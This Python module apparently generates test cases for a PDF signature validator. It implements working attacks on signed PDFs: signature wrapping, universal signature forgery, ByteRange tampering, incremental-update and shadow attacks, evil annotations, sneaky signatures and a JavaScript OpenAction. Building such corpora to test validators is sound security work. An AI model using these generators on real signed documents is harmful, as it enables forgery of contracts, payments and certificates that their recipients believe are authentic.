"""One generator for each published class of attack on signed PDFs, and some of our own.

The attacker has the signed file and no key that anyone trusts (a key of his own where a class needs one).
References: Mladenov et al., "1 Trillion Dollar Refund" (universal signature forgery, incremental saving,
signature wrapping); Mainka et al., "Shadow Attacks"; Rohlmann et al., "Breaking the Specification" (evil
annotation, sneaky signature); "Processing Dangerous Paths" (active content).
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from typing import Any

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.sign import fields
from validation_files import TEXT, plain_pdf, sign, writer
from validation_honest import fill
from validation_pki import NOW, Pki

name = generic.pdf_name
P = fields.MDPPerm
EVIL = b"BT /F1 24 Tf 72 700 Td (Certificate No. 43: STOLEN) Tj ET"


def update(data: bytes, change: Callable) -> bytes:
    """Apply an incremental update with pyHanko's writer."""
    work = writer(data)
    change(work)
    out = io.BytesIO()
    work.write(out)
    return out.getvalue()


def page_of(work: Any) -> Any:
    return work.root["/Pages"]["/Kids"][0]


def hole_of(data: bytes) -> tuple[int, int, int]:
    match = list(re.finditer(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)", data))[-1]
    _, a, b, c = map(int, match.groups())
    return a, b, b + c


def object_text(data: bytes, number: int) -> bytes:
    at = data.rindex(b"\n%d 0 obj" % number) + 1
    return data[at : data.index(b"endobj", at) + 6]


def signature_number(data: bytes) -> int:
    return int(re.findall(rb"\n(\d+) 0 obj", data[: hole_of(data)[0]])[-1])


def page_number(data: bytes) -> int:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return pdf.pages[0].objgen[0]


def content_number(data: bytes) -> int:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return pdf.pages[0].Contents.objgen[0]


def raw_update(
    data: bytes, objects: dict[int, bytes], *, trailer: bytes = b"", prev: int | None = None
) -> bytes:
    """Append objects, a table and a trailer by hand."""
    start = int(data.rsplit(b"startxref", 1)[1].split()[0])
    with pikepdf.open(io.BytesIO(data)) as pdf:
        size, root = int(pdf.trailer.Size), pdf.Root.objgen[0]
    body = data if data.endswith(b"\n") else data + b"\n"
    rows = b""
    for number, text in sorted(objects.items()):
        rows += b"%d 1\n%010d 00000 n \n" % (number, len(body))
        body += text + b"\n"
    size = max([size, *(n + 1 for n in objects)])
    at = len(body)
    root_entry = b"" if b"/Root" in trailer else b"/Root %d 0 R " % root
    body += (
        b"xref\n"
        + rows
        + b"trailer\n<< /Size %d %s/Prev %d %s>>\nstartxref\n%d\n%%%%EOF\n"
        % (size, root_entry, start if prev is None else prev, trailer, at)
    )
    return body


def evil_content(data: bytes) -> bytes:
    def change(work: Any) -> None:
        page = page_of(work)
        page[name("/Contents")] = work.add_object(generic.StreamObject(stream_data=EVIL))
        work.update_container(page)

    return update(data, change)


# -- bytes and ranges -----------------------------------------------------------------------------


def flip_content(data: bytes) -> bytes:
    at = data.index(b"VALID")
    return data[:at] + b"WRONG" + data[at + 5 :]


def behind_cms(data: bytes) -> bytes:
    a, b, _ = hole_of(data)
    digits = bytearray(data[a + 1 : b - 1])
    digits[-64:] = b"68696464656e206279746573".ljust(64, b"0")
    return data[: a + 1] + bytes(digits) + data[b - 1 :]


def one_upper_digit(data: bytes) -> bytes:
    a, _, _ = hole_of(data)
    at = next(i for i in range(a + 1, len(data)) if data[i : i + 1].isalpha())
    return data[:at] + data[at : at + 1].swapcase() + data[at + 1 :]


def wrapped(data: bytes) -> bytes:
    """Signature wrapping: the second covered part moves, the gap holds new objects and another dictionary.

    The moved part ends with the signed startxref, so the forged table stands where that points.
    """
    a, b, end = hole_of(data)
    head, contents, tail = data[:a], data[a:b], data[b:end]
    number, content = signature_number(data), content_number(data)
    stream = b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (content, len(EVIL), EVIL)
    original = object_text(data, number)
    old = int(data.rsplit(b"startxref", 1)[1].split()[0])
    with pikepdf.open(io.BytesIO(data)) as pdf:
        total, root = int(pdf.trailer.Size), pdf.Root.objgen[0]
    gap = (head + contents + b"\n>>\nendobj\n").ljust(old)[len(head) :]
    made = b""
    for _ in range(6):  # until the numbers are stable
        size = len(head) + len(gap) + len(made)
        copy = re.sub(
            rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange [0 %d %d %d]" % (a, size, len(tail)), original
        )
        table = b"xref\n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \ntrailer\n" % (
            (content, old + 400, number, old + 400 + len(stream))
        ) + b"<< /Size %d /Root %d 0 R /Prev %d >>\n" % (total, root, old + size - b)
        made = table.ljust(400) + stream + copy + b"\n"
    return head + gap + made + tail


def with_range(new_range: bytes) -> Callable[[bytes], bytes]:
    """Override the signature dictionary by an update whose ByteRange is another."""

    def build(data: bytes) -> bytes:
        number = signature_number(data)
        text = object_text(data, number)
        a, b, end = hole_of(data)
        made = new_range % {b"a": a, b"b": b, b"c": end - b, b"n": len(data)}
        return raw_update(data, {number: re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange " + made, text)})

    return build


def range_in_place(pattern: bytes) -> Callable[[bytes], bytes]:
    def build(data: bytes) -> bytes:
        a, b, end = hole_of(data)
        match = list(re.finditer(rb"/ByteRange\s*\[[^\]]*\]", data))[-1]
        made = b"/ByteRange " + pattern % {b"a": a, b"b": b, b"c": end - b, b"n": len(data)}
        return data[: match.start()] + made.ljust(match.end() - match.start()) + data[match.end() :]

    return build


# -- universal signature forgery: the value is taken away or spoilt --------------------------------


def forged(key: str, replacement: Any) -> Callable[[bytes], bytes]:
    def build(data: bytes) -> bytes:
        def change(work: Any) -> None:
            value = work.root["/AcroForm"]["/Fields"][-1]["/V"]
            if replacement is None:
                del value[name(key)]
            else:
                value[name(key)] = replacement
            work.update_container(value)

        return update(evil_content(data), change)

    return build


# -- signatures that vanish -----------------------------------------------------------------------


def no_value(data: bytes) -> bytes:
    def change(work: Any) -> None:
        field = work.root["/AcroForm"]["/Fields"][-1]
        del field[name("/V")]
        work.update_container(field)

    return update(data, change)


def no_fields(data: bytes) -> bytes:
    def change(work: Any) -> None:
        form = work.root["/AcroForm"]
        form[name("/Fields")] = generic.ArrayObject()
        work.update_container(form)
        page = page_of(work)
        if "/Annots" in page:
            del page[name("/Annots")]
        work.update_container(page)

    return update(data, change)


def no_form(data: bytes) -> bytes:
    def change(work: Any) -> None:
        del work.root[name("/AcroForm")]
        work.update_root()
        page = page_of(work)
        if "/Annots" in page:
            del page[name("/Annots")]
        work.update_container(page)

    return update(data, change)


def other_root(data: bytes) -> bytes:
    """Hide and replace: a second catalogue with pages of its own."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        size = int(pdf.trailer.Size)
    objects = {
        size: b"%d 0 obj\n<< /Type /Catalog /Pages %d 0 R >>\nendobj" % (size, size + 1),
        size + 1: b"%d 0 obj\n<< /Type /Pages /Count 1 /Kids [%d 0 R] >>\nendobj" % (size + 1, size + 2),
        size + 2: b"%d 0 obj\n<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>\nendobj"
        % (size + 2, size + 1),
    }
    return raw_update(data, objects, trailer=b"/Root %d 0 R " % size)


def other_root_with_form(data: bytes) -> bytes:
    """The same, keeping the signature's form."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        size, form = int(pdf.trailer.Size), pdf.Root.AcroForm.objgen[0]
        form_text = b"%d 0 R" % form if form else pdf.Root.AcroForm.unparse(resolved=False)
    objects = {
        size: b"%d 0 obj\n<< /Type /Catalog /Pages %d 0 R /AcroForm %s >>\nendobj"
        % (size, size + 1, form_text),
        size + 1: b"%d 0 obj\n<< /Type /Pages /Count 1 /Kids [%d 0 R] >>\nendobj" % (size + 1, size + 2),
        size + 2: b"%d 0 obj\n<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>\nendobj"
        % (size + 2, size + 1),
    }
    return raw_update(data, objects, trailer=b"/Root %d 0 R " % size)


# -- incremental saving ---------------------------------------------------------------------------


def without_table(data: bytes) -> bytes:
    page = page_number(data)
    return data + b"\n%d 0 obj\n<< /Type /Page /MediaBox [0 0 10 10] >>\nendobj\n" % page


def without_table_with_end(data: bytes) -> bytes:
    start = int(data.rsplit(b"startxref", 1)[1].split()[0])
    return without_table(data) + b"startxref\n%d\n%%%%EOF\n" % start


def back_to(data: bytes) -> bytes:
    """Point the last startxref at the first revision, so that the signature is not read."""
    first = int(re.search(rb"startxref\s+(\d+)", data).group(1))
    return data + b"\nstartxref\n%d\n%%%%EOF\n" % first


def back_to_last(data: bytes) -> bytes:
    start = int(data.rsplit(b"startxref", 1)[1].split()[0])
    return data + b"\nstartxref\n%d\n%%%%EOF\n" % start


def hidden_in_hybrid(data: bytes) -> bytes:
    """Redefine the page's content in an /XRefStm, which some readers ignore."""
    content = content_number(data)
    body = data + b"\n"
    at_stream = len(body)
    body += b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (content, len(EVIL), EVIL)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        size, root = int(pdf.trailer.Size), pdf.Root.objgen[0]
    rows = b"\x01" + at_stream.to_bytes(4, "big") + b"\x00"
    at_xrefstm = len(body)
    body += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 1] /Index [%d 1] /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (size, size + 1, content, len(rows), rows)
    )
    start = int(data.rsplit(b"startxref", 1)[1].split()[0])
    at = len(body)
    return (
        body
        + b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root %d 0 R /Prev %d /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (size, at_xrefstm, size + 1, root, start, at_xrefstm, at)
    )


def forked(data: bytes) -> bytes:
    """An update whose /Prev skips the signed revision and brings the signature along."""
    first = int(re.search(rb"startxref\s+(\d+)", data).group(1))
    numbers = {int(n) for n in re.findall(rb"\n(\d+) 0 obj", data[first:])}
    objects = {n: object_text(data, n) for n in numbers}
    return raw_update(data, objects, prev=first)


def twice_named(data: bytes) -> bytes:
    page = page_number(data)
    text = object_text(data, page)
    spoilt = text.replace(b"/Contents", b"/Contents 1 0 R /Contents", 1)
    return raw_update(data, {page: spoilt})


def stray_object(data: bytes) -> bytes:
    return raw_update(data + b"\n900 0 obj\n<< /A /B >>\nendobj\n", {})


# -- shadow attacks -------------------------------------------------------------------------------


def _overlay(pdf: Any) -> None:
    image = pdf.make_stream(b"\xff\xff\xff", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image)
    image.Width = image.Height = 1
    image.ColorSpace, image.BitsPerComponent = pikepdf.Name.DeviceRGB, 8
    page = pdf.pages[0]
    page.Resources.XObject = pikepdf.Dictionary(Cover=image)
    page.Contents = pdf.make_stream(EVIL + b" q 500 0 0 100 50 650 cm /Cover Do Q " + TEXT)


def shadow_hide(pki: Pki) -> bytes:
    """The signed file covers text with an image; the image is then freed or replaced."""
    data = sign(plain_pdf(extra=_overlay), pki)

    def change(work: Any) -> None:
        resources = page_of(work)["/Resources"]
        del resources["/XObject"][name("/Cover")]
        work.update_container(resources["/XObject"])

    return update(data, change)


def shadow_hide_by_free(pki: Pki) -> bytes:
    data = sign(plain_pdf(extra=_overlay), pki)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        number = pdf.pages[0].Resources.XObject.Cover.objgen[0]
    return raw_update(data, {number: b"%d 0 obj\nnull\nendobj" % number})


def shadow_replace_font(pki: Pki) -> bytes:
    """A font of the signed page is redefined, so that the same codes show other characters."""
    data = sign(plain_pdf(), pki)

    def change(work: Any) -> None:
        font = page_of(work)["/Resources"]["/Font"]["/F1"]
        font[name("/BaseFont")] = name("/ZapfDingbats")
        work.update_container(font)

    return update(data, change)


def shadow_replace_field(pki: Pki) -> bytes:
    """A filled field shows one value; its value and look are replaced as if it were filled in."""
    return fill(sign(fill(plain_pdf(form=True), "pay 100"), pki), "pay 999")


def _masked_field(pdf: Any) -> None:
    form_look = pdf.make_stream(
        b"BT /F1 12 Tf 2 8 Td (pay 100) Tj ET",
        Type=pikepdf.Name.XObject,
        Subtype=pikepdf.Name.Form,
        BBox=[0, 0, 228, 30],
    )
    pdf.Root.AcroForm.Fields[0].AP = pikepdf.Dictionary(N=form_look)


def shadow_replace_look(pki: Pki) -> bytes:
    """A field without value paints an approved text; the later value paints another over it."""
    return fill(sign(plain_pdf(form=True, extra=_masked_field), pki), "pay 999")


def _large_field(pdf: Any) -> None:
    pdf.Root.AcroForm.Fields[0].Rect = [0, 0, 595, 842]


def shadow_large_field(pki: Pki) -> bytes:
    """An empty field as large as the page is filled after signing and paints over everything."""
    return fill(sign(plain_pdf(form=True, extra=_large_field), pki), "pay 999")


def shadow_look_only(pki: Pki) -> bytes:
    data = sign(fill(plain_pdf(form=True), "pay 100"), pki)

    def change(work: Any) -> None:
        field = work.root["/AcroForm"]["/Fields"][0]
        stream = generic.StreamObject(
            {name("/Type"): name("/XObject"), name("/Subtype"): name("/Form")},
            stream_data=b"BT (pay 999) Tj ET",
        )
        field[name("/AP")] = generic.DictionaryObject({name("/N"): work.add_object(stream)})
        work.update_container(field)

    return update(data, change)


def shadow_form_moved(pki: Pki) -> bytes:
    data = sign(plain_pdf(form=True), pki)

    def change(work: Any) -> None:
        field = work.root["/AcroForm"]["/Fields"][0]
        field[name("/Rect")] = generic.ArrayObject(map(generic.NumberObject, (0, 0, 595, 842)))
        work.update_container(field)

    return update(fill(data), change)


# -- annotations, signatures, active content ------------------------------------------------------


def annotation(subtype: str = "/FreeText") -> Callable[[bytes], bytes]:
    def build(data: bytes) -> bytes:
        def change(work: Any) -> None:
            page = page_of(work)
            look = generic.StreamObject(
                {
                    name("/Type"): name("/XObject"),
                    name("/Subtype"): name("/Form"),
                    name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 500, 100))),
                },
                stream_data=b"1 1 1 rg 0 0 500 100 re f " + EVIL,
            )
            note = generic.DictionaryObject(
                {
                    name("/Type"): name("/Annot"),
                    name("/Subtype"): name(subtype),
                    name("/F"): generic.NumberObject(4),
                    name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (50, 650, 550, 750))),
                    name("/AP"): generic.DictionaryObject({name("/N"): work.add_object(look)}),
                }
            )
            existing = (
                [page["/Annots"].raw_get(i) for i in range(len(page["/Annots"]))] if "/Annots" in page else []
            )
            page[name("/Annots")] = generic.ArrayObject([*existing, work.add_object(note)])
            work.update_container(page)

        return update(data, change)

    return build


def sneaky_signature(pki: Pki) -> bytes:
    """A stranger signs over the content with a visible field (P=2 permits signing)."""
    data = sign(plain_pdf(), pki, certify=P.FILL_FORMS)
    return sign(data, Pki(), field="Extra", box=(50, 650, 550, 750))


def sneaky_empty_field(pki: Pki) -> bytes:
    data = sign(plain_pdf(), pki, certify=P.FILL_FORMS)

    def change(work: Any) -> None:
        look = work.add_object(
            generic.StreamObject(
                {name("/Type"): name("/XObject"), name("/Subtype"): name("/Form")}, stream_data=EVIL
            )
        )
        page = page_of(work)
        field = generic.DictionaryObject(
            {
                name("/Type"): name("/Annot"),
                name("/Subtype"): name("/Widget"),
                name("/FT"): name("/Sig"),
                name("/T"): generic.pdf_string("Extra"),
                name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (50, 650, 550, 750))),
                name("/AP"): generic.DictionaryObject({name("/N"): look}),
            }
        )
        reference = work.add_object(field)
        form = work.root["/AcroForm"]
        form["/Fields"].append(reference)
        work.update_container(form["/Fields"])
        page["/Annots"].append(reference)
        work.update_container(page["/Annots"])

    return update(data, change)


def seal_look_changed(pki: Pki) -> bytes:
    data = sign(plain_pdf(), pki, box=(100, 100, 200, 200))

    def change(work: Any) -> None:
        field = work.root["/AcroForm"]["/Fields"][0]
        look = work.add_object(generic.StreamObject(stream_data=EVIL))
        field[name("/AP")] = generic.DictionaryObject({name("/N"): look})
        work.update_container(field)

    return update(data, change)


def catalog_entry(key: str, value: Any) -> Callable[[bytes], bytes]:
    def build(data: bytes) -> bytes:
        def change(work: Any) -> None:
            work.root[name(key)] = value
            work.update_root()

        return update(data, change)

    return build


def new_text_field(data: bytes) -> bytes:
    def change(work: Any) -> None:
        field = generic.DictionaryObject(
            {
                name("/FT"): name("/Tx"),
                name("/T"): generic.pdf_string("more"),
                name("/V"): generic.pdf_string("evil"),
            }
        )
        form = work.root["/AcroForm"]
        form["/Fields"].append(work.add_object(field))
        work.update_container(form["/Fields"])

    return update(data, change)


def page_added(data: bytes) -> bytes:
    def change(work: Any) -> None:
        tree = work.root["/Pages"]
        tree["/Kids"].append(work.add_object(generic.DictionaryObject({name("/Type"): name("/Page")})))
        tree[name("/Count")] = generic.NumberObject(2)
        work.update_container(tree)
        work.update_container(tree["/Kids"])

    return update(data, change)


def retitled(data: bytes) -> bytes:
    def change(work: Any) -> None:
        info = generic.DictionaryObject({name("/Title"): generic.pdf_string("another title")})
        work.set_info(work.add_object(info))

    return update(data, change)


def resigned_by_stranger(pki: Pki) -> bytes:
    del pki
    return sign(plain_pdf(), Pki())


def locked_field_filled(pki: Pki) -> bytes:
    lock = fields.FieldMDPSpec(fields.FieldMDPAction.INCLUDE, fields=["remark"])
    spec = fields.SigFieldSpec("Seal1", field_mdp_spec=lock)
    return fill(sign(plain_pdf(form=True), pki, field_spec=spec))


def _approval(change: Callable[[bytes], bytes]) -> Callable[[Pki], bytes]:
    return lambda pki: change(sign(plain_pdf(), pki))


def _certified(level: P, change: Callable[[bytes], bytes], *, form: bool = False) -> Callable[[Pki], bytes]:
    return lambda pki: change(sign(plain_pdf(form=form), pki, certify=level))


_NULL = generic.NullObject()
_JS = generic.DictionaryObject(
    {name("/S"): name("/JavaScript"), name("/JS"): generic.pdf_string("app.alert(1)")}
)

ATTACKS: dict[str, Callable[[Pki], bytes]] = {
    "content-byte": _approval(flip_content),
    "newline-after": _approval(lambda d: d + b"\n"),
    "zero-after": _approval(lambda d: d + b"\0"),
    "text-after": _approval(lambda d: d + b"appended"),
    "comment-after": _approval(lambda d: d + b"\n% comment\n%%EOF\n"),
    "byte-missing": _approval(lambda d: d[:-1]),
    "many-bytes-missing": _approval(lambda d: d[:-60]),
    "before-header": _approval(lambda d: b"junk\n" + d),
    "behind-cms": _approval(behind_cms),
    "hex-case": _approval(one_upper_digit),
    "wrapping": _approval(wrapped),
    "range-gap": _approval(range_in_place(b"[0 %(a)d %(n)d 0]")),
    "range-overlap": _approval(range_in_place(b"[0 %(b)d %(a)d %(c)d]")),
    "range-order": _approval(range_in_place(b"[%(b)d %(c)d 0 %(a)d]")),
    "range-negative": _approval(range_in_place(b"[0 %(a)d -1 %(c)d]")),
    "range-beyond": _approval(range_in_place(b"[0 %(a)d %(b)d 9999999]")),
    "range-three": _approval(range_in_place(b"[0 %(a)d %(b)d]")),
    "range-override-short": _approval(with_range(b"[0 10 20 30]")),
    "range-override-same": _approval(with_range(b"[0 %(a)d %(b)d %(c)d]")),
    "range-override-zero": _approval(with_range(b"[0 0 0 0]")),
    "usf-no-contents": _approval(forged("/Contents", None)),
    "usf-null-contents": _approval(forged("/Contents", _NULL)),
    "usf-empty-contents": _approval(forged("/Contents", generic.ByteStringObject(b""))),
    "usf-zero-contents": _approval(forged("/Contents", generic.ByteStringObject(b"\0"))),
    "usf-no-range": _approval(forged("/ByteRange", None)),
    "usf-null-range": _approval(forged("/ByteRange", _NULL)),
    "usf-empty-range": _approval(forged("/ByteRange", generic.ArrayObject())),
    "usf-subfilter": _approval(forged("/SubFilter", None)),
    "vanish-value": _approval(no_value),
    "vanish-fields": _approval(no_fields),
    "vanish-form": _approval(no_form),
    "vanish-root": _approval(other_root),
    "vanish-rollback": _approval(back_to),
    "root-replaced": _approval(other_root_with_form),
    "incremental-content": _approval(evil_content),
    "incremental-without-table": _approval(without_table),
    "incremental-without-table-with-end": _approval(without_table_with_end),
    "incremental-second-end": _approval(back_to_last),
    "incremental-hybrid": _approval(hidden_in_hybrid),
    "incremental-forked": _approval(forked),
    "incremental-duplicate-keys": _approval(twice_named),
    "incremental-stray-object": _approval(stray_object),
    "certified-content": _certified(P.NO_CHANGES, evil_content),
    "certified-none-filled": _certified(P.NO_CHANGES, fill, form=True),
    "shadow-hide": shadow_hide,
    "shadow-hide-null": shadow_hide_by_free,
    "shadow-replace-font": shadow_replace_font,
    "shadow-replace-field": shadow_replace_field,
    "shadow-replace-look": shadow_replace_look,
    "shadow-large-field": shadow_large_field,
    "shadow-look-only": shadow_look_only,
    "shadow-form-moved": shadow_form_moved,
    "evil-annotation-p3": _certified(P.ANNOTATE, annotation()),
    "evil-annotation-p2": _certified(P.FILL_FORMS, annotation("/Stamp")),
    "evil-annotation-approval": _approval(annotation("/Square")),
    "evil-redact": _certified(P.ANNOTATE, annotation("/Redact")),
    "sneaky-signature": sneaky_signature,
    "sneaky-empty-field": sneaky_empty_field,
    "seal-look-changed": seal_look_changed,
    "open-action": _approval(catalog_entry("/OpenAction", _JS)),
    "additional-actions": _approval(catalog_entry("/AA", generic.DictionaryObject({name("/WC"): _JS}))),
    "optional-content": _approval(catalog_entry("/OCProperties", generic.DictionaryObject())),
    "text-field-added": _approval(new_text_field),
    "page-added": _approval(page_added),
    "retitled": _approval(retitled),
    "resigned": resigned_by_stranger,
    "locked-field": locked_field_filled,
    "stamped-content": lambda p: evil_content(sign(plain_pdf(), p, stamped_at=NOW, lt=True)),
    "archived-content": lambda p: evil_content(sign(plain_pdf(), p, stamped_at=NOW, lta=True)),
}
